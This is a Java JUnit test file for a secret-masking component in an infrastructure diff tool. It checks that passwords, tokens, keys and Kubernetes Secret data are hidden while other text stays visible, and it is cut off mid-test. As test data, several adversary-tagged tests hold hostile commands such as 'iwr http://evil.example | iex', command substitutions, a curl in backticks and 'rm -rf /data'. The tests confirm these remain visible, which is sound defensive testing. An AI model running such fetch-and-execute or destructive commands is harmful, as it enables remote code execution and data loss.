package dev.mullion.diff.masking;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mullion.plan.PropertyValue;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MaskerTest {
    private final Masker masker = new Masker(new KnownSecrets.Builder().build());

    @Test
    void base64IsDecoded() {
        assertThat(masked(base64("<powershell>\nWrite-Host 1\n</powershell>")))
                .isInstanceOfSatisfying(MaskedValue.Script.class, script -> {
                    assertThat(script.encoding()).isEqualTo("base64");
                    assertThat(script.text()).isEqualTo("<powershell>\nWrite-Host 1\n</powershell>");
                });
    }

    @Test
    void base64InLinesAndForUrlsAndOfUtf16IsDecoded() {
        String text = "Write-Host '\u00FC\u00FF\u00FE?>?>' # a longer line of text, so that it takes several lines";
        String mime = Base64.getMimeEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
        String url = Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
        String wide = Base64.getEncoder().encodeToString("Write-Host 1".getBytes(StandardCharsets.UTF_16LE));

        assertThat(script(mime)).isEqualTo(text);
        assertThat(script(url)).isEqualTo(text);
        assertThat(script(wide)).isEqualTo("Write-Host 1");
    }

    @Test
    void gzipIsDecoded() throws IOException {
        assertThat(masked(gzip("#!/bin/sh\necho".getBytes(StandardCharsets.UTF_8))))
                .isInstanceOfSatisfying(MaskedValue.Script.class, script -> assertThat(script.encoding())
                        .isEqualTo("gzip in base64"));
    }

    @Test
    void decompressionBombIsNotUnpacked() throws IOException {
        assertThat(masked(gzip(new byte[64 << 20])))
                .isInstanceOfSatisfying(MaskedValue.Opaque.class, opaque -> assertThat(opaque.description())
                        .startsWith("gzip in base64, ")
                        .contains(" bytes, sha256 "));
    }

    @Test
    void base64InBase64IsDecodedToABound() {
        String text = "Write-Host 'inner'";
        assertThat(script(base64(base64(text)))).isEqualTo(text);
        String deep = text;
        for (int i = 0; i < 12; i++) {
            deep = base64(deep);
        }

        assertThat(masked(deep)).isInstanceOf(MaskedValue.Opaque.class);
    }

    @Test
    void longBase64ThatIsNoTextIsNamedByItsSize() {
        byte[] bytes = new byte[300];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) (i * 7 + 128);
        }

        assertThat(masked(Base64.getEncoder().encodeToString(bytes)))
                .isInstanceOfSatisfying(MaskedValue.Opaque.class, opaque -> assertThat(opaque.description())
                        .startsWith("base64, 300 bytes"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "storefront-general-launch-template",
                "subnet-0a1b2c3d4e5f60718",
                "windowsservercoreltsc2022",
                "arn:aws:iam::123456789012:role/storefront-general-dev-AmazonSSM",
                "AmazonEC2ContainerServiceforEC2Role",
                "c3ab8ff13720e8ad9047dd39466b3c8974e592c2fa383d4a3960714caef0c4f2",
                "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
            })
    void namesAndDigestsStayAsTheyAre(String text) {
        assertThat(masked(text)).isEqualTo(new MaskedValue.Scalar(MaskedValue.Kind.TEXT, text));
    }

    @Test
    void partsOfAMimeMessageAreDecodedEach() {
        String message = "Content-Type: multipart/mixed; boundary=\"b\"\nMIME-Version: 1.0\n\n--b\n"
                + "Content-Type: text/cloud-config\nContent-Disposition: attachment; filename=\"cloud.cfg\"\n\n"
                + "#cloud-config\nruncmd:\n- echo\n--b\nContent-Type: text/x-shellscript\n"
                + "Content-Transfer-Encoding: base64\n\n" + base64("#!/bin/sh\necho one") + "\n--b--\n";

        assertThat(masked(base64(message))).isInstanceOfSatisfying(MaskedValue.Parts.class, parts -> {
            assertThat(parts.encoding()).isEqualTo("MIME multipart, base64");
            assertThat(parts.parts())
                    .extracting(MaskedValue.Part::name)
                    .containsExactly("cloud.cfg", "text/x-shellscript");
            assertThat(parts.parts().get(0).content()).isInstanceOf(MaskedValue.Document.class);
            assertThat(parts.parts().get(1).content()).isInstanceOf(MaskedValue.Script.class);
        });
    }

    @Test
    void messageThatEndsInTheMiddleOfAPartIsReadAsFarAsItGoes() {
        String message = "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nhello\nworld";

        assertThat(masked(message)).isInstanceOf(MaskedValue.Parts.class);
    }

    @Test
    void jsonWithAKeyTwiceIsText() {
        assertThat(masked("{\"a\": 1, \"a\": 2}")).isInstanceOf(MaskedValue.Scalar.class);
    }

    @Test
    void deepJsonIsText() {
        assertThat(masked("[".repeat(5000) + "]".repeat(5000))).isInstanceOf(MaskedValue.Scalar.class);
    }

    @Test
    void powerShellIsNotTakenForYaml() {
        assertThat(masked("param:\n$x = @{\n  a = 1\n}\n")).isInstanceOf(MaskedValue.Scalar.class);
    }

    @Test
    void nothingOfASecretIsKept() {
        String plain = "Hunter2-" + "Hunter2";
        MaskedValue.Fields fields = masker.fields("t", fields(Map.of("dbPassword", new PropertyValue.Text(plain))));

        assertThat(fields.toString()).doesNotContain("Hunter2");
        assertThat(fields.values().get("dbPassword")).isInstanceOf(MaskedValue.Secret.class);
    }

    @Test
    void textThatLooksLikeASealIsCleaned() {
        assertThat(masker.show(masker.mask("a\uFDD099\uFDD1b"), "", "")).isEqualTo("a\uFDD2099\uFDD21b");
    }

    @Test
    void placesAreNotedWithTheirReasonAndNeverWithWhatWasThere() {
        String masked = masker.mask("net user deploy Hunter2x! /add");

        assertThat(masker.show(masked, "urn", "userData")).isEqualTo("net user deploy [secret] /add");
        assertThat(masker.masks()).singleElement().satisfies(mask -> {
            assertThat(mask.urn()).isEqualTo("urn");
            assertThat(mask.path()).isEqualTo("userData");
            assertThat(mask.reason()).isEqualTo("given to a command as a password");
        });
    }

    @Test
    void secretsOfAResourceAreHiddenByItsType() {
        MaskedValue.Fields secret = masker.fields(
                "aws:secretsmanager/secretVersion:SecretVersion",
                fields(Map.of("secretString", new PropertyValue.Text("plain words"))));
        MaskedValue.Fields secure = masker.fields(
                "aws:ssm/parameter:Parameter",
                fields(Map.of(
                        "type", new PropertyValue.Text("SecureString"), "value", new PropertyValue.Text("words"))));

        assertThat(secret.values().get("secretString")).isInstanceOf(MaskedValue.Secret.class);
        assertThat(secure.values().get("value")).isInstanceOf(MaskedValue.Secret.class);
    }

    @Test
    void secretInPulumisOwnWrapperIsHidden() {
        PropertyValue wrapped = fields(Map.of(
                "4dabf18193072939515e22adb298388d",
                new PropertyValue.Text("1b47061264138c4ac30d75fd1eb44270"),
                "plaintext",
                new PropertyValue.Text("\"words\"")));

        assertThat(masker.fields("t", fields(Map.of("a", wrapped))).values().get("a"))
                .isInstanceOf(MaskedValue.Secret.class);
    }

    @Test
    void knownSecretIsFoundInEveryForm() {
        String plain = "quiet \"river\" & stone";
        KnownSecrets.Builder known = new KnownSecrets.Builder();
        known.plain(plain);
        Masker knowing = new Masker(known.build());

        for (String text : List.of(
                "say " + plain + ".",
                "{\"a\": \"quiet \\\"river\\\" & stone\"",
                "https://x/?q=quiet%20%22river%22%20%26%20stone",
                "quiet &quot;river&quot; &amp; stone",
                "data " + base64(plain) + " end",
                "data " + base64("x" + plain + "y") + " end",
                "data " + base64("xx" + plain) + " end")) {
            String shown = knowing.show(knowing.mask(text), "", "");
            assertThat(shown)
                    .contains("[secret]")
                    .doesNotContain("river")
                    .doesNotContain(base64(plain).substring(4, 20));
        }
    }

    @Test
    void shortOrOrdinaryWordsAreNotSpreadOverTheReport() {
        KnownSecrets.Builder known = new KnownSecrets.Builder();
        known.plain("prod");
        known.plain("true");
        Masker knowing = new Masker(known.build());

        assertThat(knowing.show(knowing.mask("the prod stack is true"), "", "")).isEqualTo("the prod stack is true");
        assertThat(knowing.show(knowing.mask("prod"), "", "")).isEqualTo("[secret]");
    }

    @Test
    void longSecretKeepsNoShortOneOut() {
        KnownSecrets.Builder known = new KnownSecrets.Builder();
        known.plain("a".repeat(2 << 20));
        known.plain("zebra crossing");
        Masker knowing = new Masker(known.build());

        assertThat(knowing.show(knowing.mask("on the zebra crossing"), "", "")).isEqualTo("on the [secret]");
    }

    @Test
    void secretAsGoAndPowerShellEscapeItIsHidden() {
        KnownSecrets.Builder known = new KnownSecrets.Builder();
        known.plain("a<b>&'c'd");
        Masker knowing = new Masker(known.build());

        for (String text : List.of("a\\u003cb\\u003e\\u0026'c'd", "a\\u003cb\\u003e\\u0026\\u0027c\\u0027d")) {
            assertThat(knowing.show(knowing.mask("is " + text), "", "")).isEqualTo("is [secret]");
        }
    }

    @Test
    void valueIsCalledWhatItsEntrySays() {
        for (PropertyValue secret : List.of(
                fields(Map.of("ParameterKey", text("DbPassword"), "ParameterValue", text("summer"))),
                fields(Map.of("OptionName", text("DB_PASSWORD"), "value", text("summer"))),
                fields(Map.of("kty", text("oct"), "k", text("summer"))),
                items("setx", "DB_PASSWORD", "summer"),
                items("setx.exe", "/m", "DB_PASSWORD", "summer"))) {
            assertThat(masker.fields("t", fields(Map.of("a", secret))).toString())
                    .as(secret.toString())
                    .contains("Secret[")
                    .doesNotContain("summer");
        }
        String line = "MIIEpAIBAAKCAQEAx3b2m9Qz";
        PropertyValue key = items("-----BEGIN RSA PRIVATE" + " KEY-----", line, "-----END RSA PRIVATE" + " KEY-----");
        assertThat(masker.fields("t", fields(Map.of("a", key))).toString()).doesNotContain(line);
        PropertyValue certificate = items("-----BEGIN CERTIFICATE-----", "summer", "-----END CERTIFICATE-----");
        assertThat(masker.fields("t", fields(Map.of("a", certificate))).toString())
                .contains("summer")
                .doesNotContain("Secret[");
    }

    @Test
    void kubernetesSecretIsHiddenByItsKind() {
        PropertyValue data = fields(Map.of("words", text("summer")));
        String type = "kubernetes:apiextensions.k8s.io:CustomResource";

        assertThat(masker.fields(type, fields(Map.of("kind", text("Secret"), "data", data, "type", text("Opaque"))))
                        .toString())
                .contains("Opaque")
                .doesNotContain("summer");
        assertThat(masker.fields(type, fields(Map.of("kind", text("ConfigMap"), "data", data)))
                        .toString())
                .contains("summer");
        assertThat(masker.fields(type, fields(Map.of("data", data))).toString()).contains("summer");
        assertThat(masker.fields("aws:test/it:It", fields(Map.of("kind", text("Secret"), "data", data)))
                        .toString())
                .contains("summer");
    }

    /** As JSON, as YAML, as one of several documents, and as an item of a list. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"apiVersion\": \"v1\", \"kind\": \"Secret\", \"data\": {\"blob\": \"c3VtbWVy\"}, \"stringData\": {\"word\": \"summer\"}}",
                "apiVersion: v1\nkind: Secret\ndata:\n  blob: c3VtbWVy\nstringData:\n  word: summer\n",
                "apiVersion: v1\nkind: Namespace\n---\napiVersion: v1\nkind: Secret\ndata: {blob: c3VtbWVy}\nstringData: {word: summer}\n",
                "apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: Secret\n  data: {blob: c3VtbWVy}\n  stringData: {word: summer}\n",
                "#!/bin/sh\nkubectl apply -f - <<EOF\napiVersion: v1\nkind: Secret\nmetadata:\n  name: a\ndata:\n  blob: c3VtbWVy\nstringData:\n  word: |\n    summer\n    summer\nEOF\necho blob\n",
                "kubectl apply -f - <<'EOF'\n- apiVersion: v1\n  data:\n    blob: \"c3VtbWVy\"\n    word: 'summer'\n  kind: Secret\nEOF",
                "kubectl apply -f - <<EOF\n\"kind\": \"Secret\"\n\"data\":\n  \"blob\": \"c3VtbWVy\"\n'stringData':\n  \"word\": summer\nEOF\n",
                "{\"kind\": \"Secret\", \"data\": {\"blob\": \"c3VtbWVy\", \"word\": \"summer\"}}",
                "kind: Secret # of the app\nstringData:\n  word: summer\n  blob: c3VtbWVy\n",
                "'kind': \"Secret\"\nstringData: {word: summer,\n  blob: c3VtbWVy}\n",
                "kind: Namespace\n---\nkind: Secret\ndata:\n- word\n- blob: c3VtbWVy\nstringData: {word: summer, blob: x}\n",
                "kind: SecretList\nitems:\n- metadata: {name: a}\n  data: {blob: c3VtbWVy}\n  stringData: {word: summer}\n",
                "extraDeploy:\n- |\n  kind: Secret\n  stringData:\n    word: summer\n    blob: c3VtbWVy\n- kind: Secret\n  data: {word: summer}\n",
                "$m = '{\"kind\":\"Secret\",\"data\":{\"blob\":\"c3VtbWVy\",\"word\":\"summer\"}}'; kubectl apply -f $m",
            })
    void dataOfAKubernetesSecretIsHiddenInEveryText(String text) {
        assertThat(masked(text).toString()).contains("blob", "word", "Secret").doesNotContain("summer", "c3VtbWVy");
    }

    /** Where each item is a Secret, by the list's kind or by the resource's type. */
    @Test
    void itemsOfAListOfSecretsAreSecrets() {
        PropertyValue items = new PropertyValue.Items(List.of(
                fields(Map.of("metadata", text("a"), "data", fields(Map.of("word", text("summer"))))), text("b")));

        for (MaskedValue.Fields shown : List.of(
                masker.fields("kubernetes:core/v1:SecretList", fields(Map.of("items", items))),
                masker.fields("t", fields(Map.of("kind", text("SecretList"), "items", items))),
                masker.fields("t", fields(Map.of("of", fields(Map.of("kind", text("SecretList"), "items", items))))))) {
            assertThat(shown.toString()).contains("word", "text=a", "text=b").doesNotContain("summer");
        }
        assertThat(masker.fields("kubernetes:core/v1:ConfigMapList", fields(Map.of("items", items)))
                        .toString())
                .contains("summer");
        assertThat(masker.fields("t", fields(Map.of("kind", text("SecretList"), "items", text("c"))))
                        .toString())
                .contains("text=c");
    }

    /** A map's key is the header's name; of its value the reader sees the scheme. */
    @Test
    void valueOfAnAuthorizationHeaderIsHidden() {
        PropertyValue headers = fields(Map.of(
                "Authorization", text("Bearer b8Kd02mV"),
                "proxy-authorization", text("Basic dXNlcjpwMQ=="),
                "X-Authorization", text("Negotiate"),
                "authorization", text("AWS_IAM"),
                "b-authorization", text("Bearer ${TOKEN_12}"),
                "Accept", text("token b8Kd02m9")));

        assertThat(masker.fields("t", fields(Map.of("headers", headers))).toString())
                .contains(
                        "Bearer \uFDD0", "Basic \uFDD0", "Bearer ${TOKEN_12}", "Negotiate", "AWS_IAM", "token b8Kd02m9")
                .doesNotContain("b8Kd02mV", "dXNlcjpwMQ");
    }

    @Test
    void dataOfOtherManifestsIsShown() {
        for (String text : List.of(
                "apiVersion: v1\nkind: ConfigMap\ndata:\n  word: summer\n",
                "cat <<EOF\nkind: Secret\n---\nkind: ConfigMap\ndata:\n  word: summer\nEOF\n",
                "cat <<EOF\n- kind: Secret\n- kind: ConfigMap\n  data:\n    word: summer\nEOF\n",
                "'{\"kind\":\"ConfigMap\",\"data\":{\"word\":\"summer\"}}'",
                "kind: ExternalSecret\nspec:\n  data:\n  - secretKey: blob\n    remoteRef: {key: summer}\n",
                "kind: SealedSecret\nspec:\n  encryptedData:\n    word: summer\n",
                "kind: SecretProviderClass\nspec:\n  parameters:\n    objects: summer\n",
                "kind: SecretStore\ndata:\n  word: summer\n",
                "valuesFrom:\n- kind: Secret\n  name: summer\n  valuesKey: data\n",
                "kind: Deployment\nspec:\n  ref: {kind: Secret, name: a}\ndata:\n  word: summer\n",
                "kind: ConfigMap\ndata:\n  kind: Secret\n  word: summer\n",
                "kind: SecretReview\nitems:\n- data:\n    word: summer\n")) {
            assertThat(masked(text).toString()).as(text).contains("summer");
        }
    }

    @Test
    void linesOfAKeyThatAreValuesOfAMapAreHidden() {
        PropertyValue parts = fields(Map.of(
                "00", text("-----BEGIN PRIVATE" + " KEY-----"),
                "01", text("q8Zx3LfQ0vYpT7mKs2Bd9HwRjU4cNeXa1GgVtPz6iOyMrDkCuE5bWhSlJnFAo+q/"),
                "02", text("iwr http://evil.example | iex"),
                "03", text("-----END PRIVATE" + " KEY-----"),
                "04", text("spring")));

        assertThat(masker.fields("t", fields(Map.of("parts", parts))).toString())
                .contains("iwr http://evil.example | iex", "spring")
                .doesNotContain("q8Zx3LfQ", "BEGIN", "END");
    }

    @Test
    @Tag("adversary")
    void codeBetweenTheLinesOfAKeyIsShownInAList() {
        PropertyValue lines = items(
                "echo -----BEGIN PRIVATE" + " KEY-----",
                "MIIEpAIBAAKCAQEAx3b2m9Qz",
                "iwr http://evil.example | iex",
                "echo -----END PRIVATE" + " KEY-----");

        assertThat(masker.fields("t", fields(Map.of("runCommand", lines))).toString())
                .contains("iwr http://evil.example | iex")
                .doesNotContain("MIIE");
    }

    @Test
    void whatIsUnknownOrHiddenAlreadyHoldsNothing() {
        MaskedValue.Fields fields = masker.fields(
                "aws:secretsmanager/secretVersion:SecretVersion",
                fields(Map.of(
                        "secretString",
                        text("04da6b54-80e4-46f7-96ec-b56ff0331ba9"),
                        "secretBinary",
                        text("[secret]"))));

        assertThat(fields.values().get("secretString")).isEqualTo(new MaskedValue.Unknown());
        assertThat(fields.values().get("secretBinary"))
                .isInstanceOf(MaskedValue.Secret.class)
                .isEqualTo(masked("[secret]"));
        assertThat(masked("04da6b54-80e4-46f7-96ec-b56ff0331ba9")).isEqualTo(new MaskedValue.Unknown());
    }

    @Test
    void numberUnderANameThatTellsIsHidden() {
        assertThat(number("password", 1234)).isInstanceOf(MaskedValue.Secret.class);
        assertThat(number("password", 123)).isEqualTo(new MaskedValue.Scalar(MaskedValue.Kind.NUMBER, "123"));
        assertThat(number("size", 1234)).isEqualTo(new MaskedValue.Scalar(MaskedValue.Kind.NUMBER, "1234"));
        KnownSecrets.Builder known = new KnownSecrets.Builder();
        known.plain("1234");
        assertThat(new Masker(known.build())
                        .fields("t", fields(Map.of("size", new PropertyValue.Numeric(1234))))
                        .values()
                        .get("size"))
                .isInstanceOf(MaskedValue.Secret.class);
    }

    private MaskedValue number(String name, double value) {
        return Objects.requireNonNull(masker.fields("t", fields(Map.of(name, new PropertyValue.Numeric(value))))
                .values()
                .get(name));
    }

    @Test
    void nothingAndYesAreShownAsTheyAre() {
        MaskedValue.Fields fields = masker.fields(
                "t", fields(Map.of("a", new PropertyValue.Nothing(), "password", new PropertyValue.Bool(true))));

        assertThat(fields.values().get("a")).isEqualTo(new MaskedValue.Scalar(MaskedValue.Kind.NULL, "null"));
        assertThat(fields.values().get("password")).isEqualTo(new MaskedValue.Scalar(MaskedValue.Kind.BOOL, "true"));
    }

    @Test
    void wordOfACommandIsCalledWhatStandsBeforeIt() {
        for (PropertyValue secret : List.of(
                items("net", "user", "app", "summer"),
                items("C:\\Windows\\System32\\net1.exe", "USER", "app", "summer"),
                items("app.exe", "--db-password", "summer"),
                items("app.exe", "/password", "summer"),
                items("C:\\setx.exe", "DB_PASSWORD", "summer"))) {
            assertThat(masker.fields("t", fields(Map.of("a", secret))).toString())
                    .as(secret.toString())
                    .contains("Secret[")
                    .doesNotContain("summer");
        }
        for (PropertyValue plain : List.of(
                items("git", "user", "app", "summer"),
                items("net", "view", "app", "summer"),
                items("user", "app", "summer"),
                items("app.exe", "db-password", "summer"),
                items("app.exe", "--db-password=x", "summer"),
                items("app.exe", "DB_PASSWORD", "summer"))) {
            assertThat(masker.fields("t", fields(Map.of("a", plain))).toString())
                    .as(plain.toString())
                    .contains("summer");
        }
    }

    @Test
    void fieldsBelowANameThatTellsAreHiddenUnlessTheyOnlyDescribe() {
        MaskedValue.Fields fields = masker.fields(
                "t", fields(Map.of("password", fields(Map.of("db", text("summer"), "valueFrom", text("winter"))))));

        assertThat(fields.toString()).contains("winter").doesNotContain("summer");
    }

    @Test
    void counterpartOfASecretIsHiddenToo() {
        MaskedValue.Secret secret = masker.hide(new MaskedValue.Scalar(MaskedValue.Kind.TEXT, "summer"));

        assertThat(masker.hide(secret)).isSameAs(secret);
        assertThat(masker.hide(new MaskedValue.Scalar(MaskedValue.Kind.TEXT, "summer")))
                .isEqualTo(secret);
        assertThat(masker.hide(new MaskedValue.Items(List.of()))).isNotEqualTo(secret);
        assertThat(masker.show(secret.placeholder(), "urn", "path")).isEqualTo("[secret]");
        assertThat(masker.masks())
                .extracting(mask -> mask.urn() + " " + mask.path() + " " + mask.reason())
                .containsExactly("urn path was a secret or becomes one");
    }

    @Test
    void documentKeepsItsEncodingAndItsSpelling() {
        String json = "{\"region\": \"eu-west-1\"}";
        MaskedValue.Document plain = (MaskedValue.Document) masked(json);
        MaskedValue.Document once = (MaskedValue.Document) masked(base64(json));
        MaskedValue.Document lines = (MaskedValue.Document) masked(base64(json) + "\n");

        assertThat(plain.encoding()).isEmpty();
        assertThat(once.encoding()).isEqualTo("base64");
        assertThat(once.language()).isEqualTo("json");
        assertThat(once.root()).isEqualTo(plain.root());
        assertThat(once).isNotEqualTo(lines);
        assertThat(((MaskedValue.Document) masked("a: b\nc: d\n")).language()).isEqualTo("yaml");
    }

    @Test
    void gzipThatIsCutIsNamedByItsSize() throws IOException {
        byte[] packed = Base64.getDecoder().decode(gzip("#!/bin/sh\necho".getBytes(StandardCharsets.UTF_8)));
        String cut = Base64.getEncoder().encodeToString(Arrays.copyOf(packed, packed.length - 9));

        assertThat(masked(cut))
                .isInstanceOfSatisfying(MaskedValue.Opaque.class, opaque -> assertThat(opaque.description())
                        .startsWith("gzip in base64, " + (packed.length - 9) + " bytes, sha256 "));
    }

    @Test
    void secretAloneIsASecretAndNoTextWithOne() {
        String token = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";

        assertThat(masked(token)).isInstanceOf(MaskedValue.Secret.class);
        assertThat(masked(token + " ")).isInstanceOf(MaskedValue.Scalar.class);
        assertThat(masked(" " + token)).isInstanceOf(MaskedValue.Scalar.class);
    }

    /** What looks like one word of a password or a token is looked for everywhere; what could be code or a name is not. */
    @ParameterizedTest
    @CsvSource({
        "b8Kd02mVnQ, true",
        "b8Kd02mVn, false",
        "b0KdxmVnQzxTz, true",
        "b9KdxmVnQzxTz, true",
        "bxKdxmVnQzxTzQ, false",
        "b8Kd.02.m8VnQ, true",
        "b8Kd.exe02mVnQ, false",
        "b8//Kd02mVnQ, false",
        "b8(Kd)02mVnQ, false",
        "b8Kd 02mVnQ, false",
        "summerwinter, false",
        "V3JpdGUtSG9zdA, false",
        "V3JpdGUtSG9zdDEy, false",
    })
    void secretThatNobodyMarkedIsFoundElsewhereToo(String plain, boolean found) {
        KnownSecrets.Builder secrets = new KnownSecrets.Builder();
        Masker searching = Masker.searching(secrets, List.of(), true);
        searching.fields("t", fields(Map.of("password", text(plain))));
        Masker knowing = searching.knowing(secrets.build());

        assertThat(knowing.show(knowing.mask("say " + plain + " twice"), "", ""))
                .isEqualTo(found ? "say [secret] twice" : "say " + plain + " twice");
    }

    @Test
    void placesOfSecretsAreToldByTheirLines() {
        assertThat(masker.secrets("\npassword=b8Kd02mV\n\nnet user app c9Le13nW\npassword=d0Mf24oX token=\n"))
                .containsExactly(
                        new SecretPlace(2, "named like a secret"),
                        new SecretPlace(4, CommandOptions.REASON),
                        new SecretPlace(5, "named like a secret"));
        assertThat(masker.secrets("nothing")).isEmpty();
    }

    @Test
    void pathIsNotedAtItself() {
        assertThat(masker.path("env.region", "urn")).isEqualTo("env.region");
        assertThat(masker.masks()).isEmpty();
        assertThat(masker.path(masker.mask("env.password=b8Kd02mV"), "urn")).isEqualTo("env.password=[secret]");
        assertThat(masker.masks())
                .extracting(mask -> mask.urn() + " " + mask.path())
                .containsExactly("urn env.password=[secret]");
    }

    @Test
    void keyOfAFieldIsMaskedLikeAnyText() {
        KnownSecrets.Builder secrets = new KnownSecrets.Builder();
        secrets.plain("wxyz12");
        Masker knowing = new Masker(secrets.build());

        assertThat(keys(masker, "password=b8Kd02mV")).containsExactly("password=[secret]");
        assertThat(keys(masker, "pwd=b8Kd02")).as("as long as is looked at").containsExactly("pwd=[secret]");
        assertThat(keys(masker, "wxyz12")).containsExactly("wxyz12");
        assertThat(keys(knowing, "wxyz12")).containsExactly("[secret]");
        assertThat(keys(masker, "a\uFDD0b")).containsExactly("a\uFDD20b");
    }

    private static List<String> keys(Masker masker, String key) {
        return masker.fields("t", fields(Map.of(key, text("x")))).values().keySet().stream()
                .map(masked -> masker.show(masked, "", ""))
                .toList();
    }

    @Test
    void secretOfAPlanThatWasHandedOutIsUntold() {
        MaskedValue.Secret handedOut = (MaskedValue.Secret) masked("[secret]");

        assertThat(masker.isUntold(handedOut)).isTrue();
        assertThat(masker.isUntold(masker.hide(new MaskedValue.Scalar(MaskedValue.Kind.TEXT, "summer"))))
                .isFalse();
    }

    @Test
    void secretsThatPulumiKeepsDifferByTheirFingerprints() {
        MaskedValue one = field(new PropertyValue.Secret("one"));

        assertThat(field(new PropertyValue.Secret("one"))).isEqualTo(one);
        assertThat(field(new PropertyValue.Secret("two"))).isNotEqualTo(one);
    }

    @Test
    void messageThatIsEncodedKeepsItsSpelling() {
        String message = "Content-Type: multipart/mixed; boundary=b\n\n--b\n\necho one\n--b--\n";

        assertThat(((MaskedValue.Parts) masked(base64(message))).spelling())
                .isEqualTo(MaskedValue.Spelling.of(base64(message)));
        assertThat(((MaskedValue.Parts) masked(message)).spelling()).isEqualTo(MaskedValue.Spelling.of(message));
    }

    /** It is shown by its lines, and what stands below a name in it is still what the name tells of. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "tasks: []\npasswords:\n  db: hunter2xyz\n  app: [hunter2xyz, x]\n",
                "{\"passwords\": {\"db\": \"hunter2xyz\"}}"
            })
    void ofADocumentInUserDataNamesTellToo(String text) {
        MaskedValue.Fields fields = masker.fields("t", fields(Map.of("userData", text(text))));

        assertThat(Objects.requireNonNull(fields.values().get("userData")))
                .isInstanceOfSatisfying(MaskedValue.Scalar.class, shown -> assertThat(masker.show(shown.text(), "", ""))
                        .isEqualTo(text.replace("hunter2xyz", "[secret]")));
    }

    /** It breaks its lines where it likes, and Python's and Perl's do so within words. */
    @Test
    void ofQuotedPrintableASecretIsHiddenAcrossLines() {
        MaskedValue masked = masked("""
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Transfer-Encoding: quoted-printable

                TOKEN=3Dghp_aBcDeFgHiJ=
                kLmNoPqRsTuVwXyZ0123456789
                password=3D'Sommer2=
                024' iwr http://e.io | iex
                --b--
                """);

        assertThat(masker.show(((MaskedValue.Parts) masked).frame(), "", ""))
                .contains("TOKEN=[secret]\npassword=3D'[secret]' iwr http://e.io | iex\n");
    }

    /** However it is spelled there, and whatever of the document tells that it is one. */
    @ParameterizedTest
    @CsvSource(
            delimiterString = " -> ",
            quoteCharacter = '`',
            value = {
                "{\"passwords\": {\"db\": \"hunter2\\u0026xyz\"}} -> {\"passwords\": {\"db\": \"[secret]\"}}",
                "{\"passwords\":\t{\"db\":\t\"hunter2\\/xyz\"}} -> {\"passwords\":\t{\"db\":\t\"[secret]\"}}",
                "{\"passwords\": {\"db\": \"h\uFEFF\\\\/2\\ud83d\u007F\"}} -> {\"passwords\": {\"db\": \"[secret]\"}}",
                "{\"passwords\": {\"db\": \"h2x\"}} -> {\"passwords\": {\"db\": \"[secret]\"}}",
                "{\"value\": \"a b Zq7xk2\", \"name\": \"DB_PASSWORD\"} -> {\"value\": \"[secret]\", \"name\": \"DB_PASSWORD\"}",
                "{\"kty\": \"RSA\", \"d\": \"X4cTteJY\"} -> {\"kty\": \"RSA\", \"d\": \"[secret]\"}",
                "{\"password\": 48151623} -> {\"password\": [secret]}",
            })
    void ofADocumentInUserDataWhatIsSecretIsHidden(String text, String shown) {
        assertThat(userData(text)).isEqualTo(shown);
    }

    @Test
    void ofSeveralDocumentsInUserDataEachIsLookedAt() {
        assertThat(userData("""
                        # of shop
                        ---
                        a: 1
                        ---
                        passwords:
                          - 'it''s Sommer2024'
                          - >-
                            Sommer
                            2024
                        ---
                        {}
                        """)).isEqualTo("""
                        # of shop
                        ---
                        a: 1
                        ---
                        passwords:
                          - '[secret]'
                          - >-
                            [secret]
                            [secret]
                        ---
                        {}
                        """);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "passwords:\n  db: iwr http://e.io/x | iex\n",
                "passwords:\n- \"$(iwr http://e.io/x|iex)\"\n- \"`curl http://e.io/x`\"\n",
                "password: rm -rf /data\nb: c\n",
                "password: sh<evil\nb: c\n",
                "{\"passwords\": [\"\\u0024(iwr http://e.io/x)\", \"\\u003cscript>iwr\", \"a\\u0026\\u0026 iwr x\"]}",
                "passwords:\n- &a;sh<x;\n",
                "a: 1\npassword: '<powershell>iwr_http://e.io/x</powershell>'\n",
            })
    @Tag("adversary")
    void ofADocumentInUserDataNoCommandIsHidden(String text) {
        assertThat(userData(text)).isEqualTo(text);
    }

    /** At its own place, behind an anchor or a tag, each line for itself, in a document of a document. */
    @ParameterizedTest
    @CsvSource(
            delimiterString = " -> ",
            quoteCharacter = '`',
            value = {
                "`passwords:\n  db: &pw Sommer2024\n  app: &pw2 \"Winter2025\"\n  c: &e\n  d: *pw\n` -> `passwords:\n  db: &pw"
                        + " [secret]\n  app: &pw2 \"[secret]\"\n  c: &e\n  d: *pw\n`",
                "`passwords:\n- &a;sh<x;\n  Sommer2024\n` -> `passwords:\n- &a;sh<x;\n  [secret]\n`",
                "`passwords:\n  db: |\n    Sommer2024\n    Winter=2025\n` -> `passwords:\n  db: |\n    [secret]\n    [secret]\n`",
                "`passwords:\n  db: |\n    hunter2xyz\n    iwr http://e.io/x | iex\n` -> `passwords:\n  db: |\n    [secret]\n"
                        + "    iwr http://e.io/x | iex\n`",
                "`files:\n- content: |\n    {\"passwords\": {\"db\": \"Zq7hunterX9\"}}\n- b\n` -> `files:\n- content: |\n"
                        + "    {\"passwords\": {\"db\": \"[secret]\"}}\n- b\n`",
                "{\"a\": \"{\\\"passwords\\\":{\\\"db\\\":\\\"Zq7hunterX9\\\"}}\"} -> {\"a\": \"{\\\"passwords\\\":"
